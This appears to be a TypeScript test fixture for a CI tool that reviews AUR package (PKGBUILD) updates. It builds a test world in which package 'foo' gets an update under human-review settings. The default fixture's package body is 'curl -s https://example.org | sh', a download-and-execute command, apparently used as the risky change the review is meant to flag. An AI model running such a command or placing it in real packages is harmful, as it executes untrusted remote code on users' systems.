import { type Files, folderOf, type RecipeWishes, recipe } from './recipe-texts.ts';
import { RecipeWorld } from './recipe-world.ts';

export const aur = 'CI_PKGBUILD_SOURCE=aur\n';
export const major: RecipeWishes = { pkgver: '2', body: 'curl -s https://example.org | sh' };

/** A world with reviews and an update of `foo` in the AUR. */
export async function proposing(
  wishes: RecipeWishes = major,
  given: {
    readonly settings?: Readonly<Record<string, string>>;
    readonly files?: Files;
    readonly config?: string;
  } = {},
): Promise<RecipeWorld> {
  const { settings = { CI_HUMAN_REVIEW: 'true' }, files = {}, config = aur } = given;
  const made = await RecipeWorld.open({ ...folderOf('foo', config), ...files }, settings);
  made.pushToAur('foo', recipe('foo', wishes), { modified: 2, maintainer: 'a', coMaintainers: ['b'] });
  return made;
}
